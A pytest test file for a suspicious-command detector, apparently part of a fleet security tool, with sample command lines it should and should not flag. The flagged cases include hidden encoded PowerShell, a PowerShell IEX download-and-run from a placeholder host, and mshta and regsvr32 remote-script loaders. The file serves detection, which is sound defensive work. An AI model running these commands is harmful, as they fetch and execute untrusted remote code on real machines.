from __future__ import annotations

import pytest

from sekisho.fleet.checks.commands import odd


@pytest.mark.parametrize(
    "command",
    [
        r"C:\Users\Public\u.exe",
        r'"C:\ProgramData\svc.exe" -k',
        r"C:\Windows\Temp\a.dll",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A",
        "powershell IEX (New-Object Net.WebClient).DownloadString('http://x')",
        "mshta http://x/a.hta",
        "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll",
        "/tmp/.x",
        r"%PUBLIC%\u.exe",
        r'"%TEMP%\a.exe" -q',
        r"%SystemRoot%\Temp\a.dll",
        r"\SystemRoot\Temp\driver.sys",
        r"%ProgramData%\svc.exe",
        "C:/Users/Public/u.exe",
    ],
)
def test_odd(command: str) -> None:
    assert odd(command)


@pytest.mark.parametrize(
    "command",
    [
        r"C:\Windows\System32\svchost.exe -k netsvcs",
        r'"C:\Program Files\Vendor\agent.exe"',
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe",
        r"powershell.exe -ExecutionPolicy Bypass -File C:\Scripts\backup.ps1",
        "/usr/bin/tmpwatch",
        r"%SystemRoot%\System32\svchost.exe -k netsvcs",
        r"%ProgramData%\Vendor\agent.exe",
        r"\SystemRoot\System32\drivers\disk.sys",
        r"C:\Windows\System32\cmd.exe /c C:\Scripts\temp.bat /tasks",
        "",
    ],
)
def test_ordinary(command: str) -> None:
    assert not odd(command)
